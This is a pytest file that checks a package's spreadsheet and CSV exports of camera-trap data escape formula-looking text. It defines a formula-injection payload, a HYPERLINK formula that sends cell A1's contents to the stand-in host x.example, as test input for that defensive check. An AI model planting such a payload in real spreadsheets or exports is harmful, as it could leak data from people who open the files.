"""Spreadsheet exports never keep formula-looking text as live formulas (issue 14)."""

from __future__ import annotations

import pandas as pd
import pytest

from amurlink.io.export import write_camtrapr, write_dwc, write_xlsx
from amurlink.io.export._cells import escape_formulas, escape_value
from amurlink.testing import make_toy_dataset

EVIL = '=HYPERLINK("http://x.example/?"&A1,"open")'


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\r=x", "'\r=x"),
    ("-12.5", "-12.5"), ("+7", "+7"), ("-1e3", "-1e3"),  # plain numbers stay as they are
    ("Panthera tigris", "Panthera tigris"), ("", ""), (None, None), (-5, -5), (3.5, 3.5),
])
def test_escape_value(value, expected):
    assert escape_value(value) == expected


def test_escape_formulas_keeps_numbers_numeric():
    frame = pd.DataFrame({"name": ["=cmd", "ok", None], "n": [-1, 2, 3], "x": [-0.5, 1.0, 2.0],
                          "s": pd.array(["@a", "-b", pd.NA], dtype="string"), "=col": [1, 2, 3]})
    out = escape_formulas(frame)
    assert out["name"].tolist()[:2] == ["'=cmd", "ok"] and pd.isna(out["name"].iloc[2])
    assert out["s"].tolist()[:2] == ["'@a", "'-b"]
    assert out["n"].dtype == frame["n"].dtype and out["n"].tolist() == [-1, 2, 3]
    assert out["x"].tolist() == [-0.5, 1.0, 2.0]
    assert list(out.columns) == ["name", "n", "x", "s", "'=col"]
    assert frame["name"].iloc[0] == "=cmd"  # the input is not changed


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    frame = pd.DataFrame({"Station": [EVIL, "+A1", "S3"], "count": [-3, 1, 2]})
    path = write_xlsx({"stations": frame}, tmp_path / "out.xlsx")
    ws = openpyxl.load_workbook(path)["stations"]
    cells = [[c for c in row] for row in ws.iter_rows(min_row=2)]
    assert [c[0].value for c in cells] == ["'" + EVIL, "'+A1", "S3"]
    assert all(c[0].data_type == "s" for c in cells)  # never "f" (formula)
    assert [c[1].value for c in cells] == [-3, 1, 2] and cells[0][1].data_type == "n"


def test_camtrapr_and_dwc_csv_escape_formula_text(tmp_path):
    ds = make_toy_dataset()
    obs = ds.observations.copy()
    obs["scientificName"] = obs["scientificName"].astype(object)
    obs.loc[obs.index[0], "scientificName"] = EVIL
    ds = ds.replace(observations=obs)
    paths = write_camtrapr(ds, tmp_path / "ct")
    records = pd.read_csv(paths["records"], dtype=str, keep_default_na=False)
    assert "'" + EVIL in set(records["Species"])
    assert not records["Species"].str.startswith("=").any()
    dwc = write_dwc(ds, tmp_path / "dwc")
    occ = pd.read_csv(dwc["occurrence"], dtype=str, keep_default_na=False)
    assert not occ.apply(lambda c: c.str.startswith("=")).any().any()
    assert (occ == "'" + EVIL).any().any()
